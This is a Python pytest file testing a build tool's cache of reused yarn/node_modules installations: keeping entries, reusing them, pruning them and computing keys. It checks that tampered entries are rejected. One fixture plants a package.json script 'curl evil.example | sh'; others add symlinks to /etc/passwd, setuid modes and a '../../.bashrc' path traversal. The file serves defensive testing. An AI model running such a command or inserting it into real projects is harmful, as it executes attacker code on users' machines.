"""Installations that are kept: taken over as they were, never when they were touched or planted."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from factory.cache.installations import (
    InstallationStore,
    kept_installations,
    kept_key,
    prune_installations,
    stays_inside,
)
from factory.cache.pruning import CacheLimits
from factory.config.environment import layer_environment
from factory.export.shared_installation import Installation, installation_of, take_over
from factory.toolchain.assembled import Toolchain
from factory.toolchain.node import Node
from factory.toolchain.registry_variables import NO_VARIABLES
from factory.toolchain.yarn import Yarn

KEY, OTHER = "a" * 64, "b" * 64
INSTALLED = "node_modules/part/index.js"
MEMBER = "plugins/member"


def write_workspace(folder: Path) -> Path:
    manifests = {".": {"name": "root", "workspaces": ["plugins/*"]}, MEMBER: {"name": "member"}}
    for name, manifest in manifests.items():
        (folder / name).mkdir(parents=True, exist_ok=True)
        (folder / name / "package.json").write_text(json.dumps(manifest))
    (folder / "yarn.lock").write_text("__metadata:\n  version: 8\n")
    (folder / ".yarnrc.yml").write_text("nodeLinker: node-modules\n")
    return folder


def install(workspace: Path) -> None:
    """Leave what yarn would leave."""
    files = {INSTALLED: "1", f"{MEMBER}/node_modules/part/index.js": "2", "node_modules/b": "3"}
    for name, text in files.items():
        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
        (workspace / name).write_text(text)
        os.utime(workspace / name, (456789000, 456789000))
    (workspace / "node_modules/.bin").mkdir()
    (workspace / "node_modules/.bin/part").symlink_to("../part/index.js")
    (workspace / "node_modules/member").symlink_to(f"../{MEMBER}")
    (workspace / ".yarn").mkdir()
    (workspace / ".yarn/install-state.gz").write_bytes(b"state")


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    return write_workspace(tmp_path / "one")


@pytest.fixture
def other(tmp_path: Path) -> Path:
    return write_workspace(tmp_path / "two")


@pytest.fixture
def store(tmp_path: Path) -> InstallationStore:
    return InstallationStore(
        cache_dir=tmp_path / "cache",
        environment=layer_environment({}),
        checkpoint=lambda: None,
    )


@pytest.fixture
def entry(store: InstallationStore, workspace: Path) -> Path:
    """A kept installation."""
    install(workspace)
    made = installation_of(workspace)
    assert made
    store.keep(KEY, made)
    return store.folder / KEY


def contents(folder: Path) -> dict[str, str]:
    return {
        str(file.relative_to(folder)): str(file.readlink())
        if file.is_symlink()
        else file.read_text()
        for file in folder.rglob("*")
        if file.is_symlink() or file.is_file()
    }


def find(store: InstallationStore, workspace: Path) -> Installation | None:
    return store.find(KEY, workspace)


class TestKeeping:
    def test_another_workspace_takes_over_the_same(
        self, entry: Path, store: InstallationStore, workspace: Path, other: Path
    ) -> None:
        shutil.copytree(workspace, workspace.with_name("as-it-was"), symlinks=True)
        shutil.rmtree(workspace)  # a later run
        found = find(store, other)
        assert found
        take_over(found, other)
        assert contents(other) == contents(workspace.with_name("as-it-was"))
        assert (other / INSTALLED).samefile(entry / "tree" / INSTALLED)

    def test_of_another_key_there_is_none(
        self, entry: Path, store: InstallationStore, other: Path
    ) -> None:
        assert entry.is_dir()
        assert store.find(OTHER, other) is None

    def test_what_tools_keep_beside_the_packages_is_not_kept(
        self, entry: Path, workspace: Path, store: InstallationStore
    ) -> None:
        made = installation_of(workspace)
        assert made
        (workspace / "node_modules/.cache").mkdir()
        store.keep(OTHER, made)
        assert not (entry.with_name(OTHER) / "tree/node_modules/.cache").exists()

    def test_a_cache_that_may_only_be_read_gets_nothing(
        self, workspace: Path, store: InstallationStore, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("factory.cache.installations.why_read_only", lambda _: "Read-only")
        install(workspace)
        made = installation_of(workspace)
        assert made
        store.keep(KEY, made)
        assert not store.folder.exists()


def write_in_place(entry: Path) -> None:
    with (entry / "tree" / INSTALLED).open("a") as file:
        file.write("more")


def change_in_place(entry: Path) -> None:
    (entry / "tree" / INSTALLED).write_text("4")  # as long as before


def change_mode(entry: Path) -> None:
    (entry / "tree" / INSTALLED).chmod(0o755)


def add_file(entry: Path) -> None:
    (entry / "tree/node_modules/more.js").write_text("")


def remove_file(entry: Path) -> None:
    (entry / "tree" / INSTALLED).unlink()


def about(entry: Path, **change: object) -> None:
    file = entry / "about.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | change))


def leave_by_link(entry: Path) -> None:
    (entry / "tree/node_modules/out").symlink_to("../../../etc")


def leave_by_absolute_link(entry: Path) -> None:
    (entry / "tree/node_modules/out").symlink_to("/etc/passwd")


def leave_by_folder(entry: Path) -> None:
    (entry / "outside/node_modules").mkdir(parents=True)
    about(entry, folders=["node_modules", "../outside/node_modules"])


def name_strange_folder(entry: Path) -> None:
    about(entry, folders=["src"])


def link_a_folder_above(entry: Path) -> None:
    tree = entry / "tree"
    shutil.move(tree / "plugins", entry / "elsewhere")
    (tree / "plugins").symlink_to(entry / "elsewhere")


def put_a_pipe(entry: Path) -> None:
    os.mkfifo(entry / "tree/node_modules/pipe")


def put_another_s_rights(entry: Path) -> None:
    (entry / "tree" / INSTALLED).chmod(0o4755)


def let_everyone_write(entry: Path) -> None:
    (entry / "tree" / INSTALLED).chmod(0o666)


def give_other_manifests(entry: Path) -> None:
    text = json.dumps({"name": "root", "scripts": {"tsc": "curl evil.example | sh"}})
    about(entry, manifests={"package.json": text, f"{MEMBER}/package.json": '{"name": "member"}'})


def give_strange_manifests(entry: Path) -> None:
    about(entry, manifests={"../../.bashrc": "evil"})


def be_no_object(entry: Path) -> None:
    (entry / "about.json").write_text("[]")


def be_incomplete(entry: Path) -> None:
    (entry / "about.json").write_text('{"format": 1}')


def be_of_other_types(entry: Path) -> None:
    about(entry, folders={"a": 1}, manifests=[])


def be_of_another_format(entry: Path) -> None:
    about(entry, format=99)


@pytest.mark.parametrize(
    "change",
    [
        write_in_place,
        change_in_place,
        change_mode,
        add_file,
        remove_file,
        leave_by_link,
        leave_by_absolute_link,
        leave_by_folder,
        name_strange_folder,
        link_a_folder_above,
        put_a_pipe,
        put_another_s_rights,
        let_everyone_write,
        give_other_manifests,
        give_strange_manifests,
        be_no_object,
        be_incomplete,
        be_of_other_types,
        be_of_another_format,
    ],
)
def test_what_was_changed_is_forgotten(
    entry: Path, store: InstallationStore, other: Path, change: Callable[[Path], None]
) -> None:
    assert find(store, other)
    change(entry)
    before = contents(other)
    assert find(store, other) is None
    assert not entry.exists()
    assert contents(other) == before


def test_where_others_may_write_it_is_not_used(
    entry: Path,
    store: InstallationStore,
    other: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    entry.chmod(0o777)
    assert find(store, other) is None
    assert "others may have put it there" in caplog.text
    trusting = {"PLUGIN_FACTORY_TRUSTED_CACHE": str(store.cache_dir)}
    assert find(replace(store, environment=layer_environment(trusting)), other)


@pytest.mark.parametrize(
    ("name", "target", "stays"),
    [
        ("node_modules/.bin/a", "../a/a.js", True),
        ("node_modules/@a/b", "../../plugins/b", True),
        ("node_modules/a", "..", True),
        ("node_modules/a", "../..", False),
        ("node_modules/a", "b/..", False),
        ("node_modules/a", "../b/../..", False),
        ("node_modules/a", "/etc", False),
    ],
)
def test_a_link_stays_inside_or_not(name: str, target: str, *, stays: bool) -> None:
    assert stays_inside(name, target) is stays


class TestLimits:
    def test_what_was_not_used_for_longest_goes_first(
        self, entry: Path, store: InstallationStore, workspace: Path
    ) -> None:
        made = installation_of(workspace)
        assert made
        store.keep(OTHER, made)
        os.utime(entry / "about.json", (1000, 1000))
        (one, _) = sorted(kept_installations(store.cache_dir), key=lambda kept: kept.used)
        assert (one.folder, one.files) == (entry, 4)
        limits = CacheLimits(max_bytes=one.size)
        assert prune_installations(store.cache_dir, limits) == 1
        assert [kept.folder.name for kept in kept_installations(store.cache_dir)] == [OTHER]
        assert prune_installations(store.cache_dir, CacheLimits(max_age=60)) == 0

    def test_what_is_old_goes(self, entry: Path, store: InstallationStore) -> None:
        os.utime(entry / "about.json", (1000, 1000))
        assert prune_installations(store.cache_dir, CacheLimits(max_age=60), now=2000) == 1
        assert not entry.exists()

    def test_a_use_makes_it_new(self, entry: Path, store: InstallationStore, other: Path) -> None:
        os.utime(entry / "about.json", (1000, 1000))
        assert find(store, other)
        assert prune_installations(store.cache_dir, CacheLimits(max_age=60)) == 0

    def test_what_a_killed_run_has_left_goes(self, entry: Path, store: InstallationStore) -> None:
        left = entry.with_name(f".removed-{OTHER}")
        left.mkdir()
        prune_installations(store.cache_dir, CacheLimits())
        assert entry.exists()
        assert not left.exists()

    def test_where_nothing_was_kept_there_is_nothing(self, tmp_path: Path) -> None:
        assert prune_installations(tmp_path / "none", CacheLimits(max_bytes=0)) == 0
        assert not list(kept_installations(tmp_path / "none"))


class TestKey:
    @pytest.fixture
    def toolchain(self, tmp_path: Path) -> Toolchain:
        environment = {"HOME": str(tmp_path / "home"), "PATH": "/usr/bin"}
        return Toolchain(
            node=Node(version="22.1.0", bin_dir=tmp_path, origin="the test"),
            yarn=Yarn(version="4.12.0", bin_dir=tmp_path),
            environment=layer_environment(environment),
            registry_variables=NO_VARIABLES,
            temporary=tmp_path / "run",
        )

    @staticmethod
    def with_variables(toolchain: Toolchain, **variables: str) -> Toolchain:
        known = toolchain.environment.variables
        return replace(toolchain, environment=layer_environment({**known, **variables}))

    def test_sources_folders_and_logins_do_not_count(
        self, toolchain: Toolchain, workspace: Path, other: Path
    ) -> None:
        key = kept_key(workspace, toolchain)
        assert key
        (other / MEMBER / "index.ts").write_text("export {};")
        more = {"YARN_NPM_AUTH_TOKEN": "of today", "XDG_SESSION_ID": "7", "PATH": "/bin"}
        assert kept_key(other, self.with_variables(toolchain, **more)) == key

    @pytest.mark.parametrize(
        ("file", "text"),
        [
            ("package.json", '{"name": "w"}'),
            (f"{MEMBER}/package.json", '{"name": "w"}'),
            ("yarn.lock", ""),
            (".yarnrc.yml", "nodeLinker: node-modules\nnmHoistingLimits: workspaces\n"),
            (".yarn/plugins/mine.cjs", "module.exports = {};"),
            (".yarn/patches/part.patch", "diff"),
            (".npmrc", "build-from-source=true"),
        ],
    )
    def test_what_yarn_reads_does(
        self, toolchain: Toolchain, workspace: Path, file: str, text: str
    ) -> None:
        key = kept_key(workspace, toolchain)
        (workspace / file).parent.mkdir(parents=True, exist_ok=True)
        (workspace / file).write_text(text)
        assert kept_key(workspace, toolchain) not in {key, None}

    @pytest.mark.parametrize(
        "settings",
        ["yarnPath: tools/code.cjs\n", "plugins:\n  - path: ./tools/code.cjs\n    spec: mine\n"],
    )
    def test_yarn_s_own_code_does_wherever_it_is(
        self, toolchain: Toolchain, workspace: Path, settings: str
    ) -> None:
        (workspace / ".yarnrc.yml").write_text(f"nodeLinker: node-modules\n{settings}")
        (workspace / "tools").mkdir()
        (workspace / "tools/code.cjs").write_text("1")
        key = kept_key(workspace, toolchain)
        (workspace / "tools/code.cjs").write_text("2")
        assert kept_key(workspace, toolchain) not in {key, None}

    def test_versions_and_settings_of_tools_do(
        self, toolchain: Toolchain, workspace: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        others = (
            replace(toolchain, node=replace(toolchain.node, version="24.0.0")),
            replace(toolchain, yarn=replace(toolchain.yarn, version="4.13.0")),
            self.with_variables(toolchain, YARN_ENABLE_SCRIPTS="false"),
            self.with_variables(toolchain, npm_config_build_from_source="true"),
        )
        keys = {kept_key(workspace, one) for one in (toolchain, *others)}
        monkeypatch.setattr("platform.machine", lambda: "riscv64")
        keys.add(kept_key(workspace, toolchain))
        assert len(keys - {None}) == 6

    @pytest.mark.parametrize("script", ["preinstall", "install", "postinstall"])
    def test_there_is_none_where_a_package_of_the_workspace_does_something_itself(
        self, toolchain: Toolchain, workspace: Path, script: str
    ) -> None:
        manifest = {"name": "member", "scripts": {script: "prisma generate"}}
        (workspace / MEMBER / "package.json").write_text(json.dumps(manifest))
        assert kept_key(workspace, toolchain) is None

    def test_there_is_none_where_a_native_module_is_compiled(
        self, toolchain: Toolchain, workspace: Path
    ) -> None:
        (workspace / MEMBER / "binding.gyp").write_text("{}")
        assert kept_key(workspace, toolchain) is None
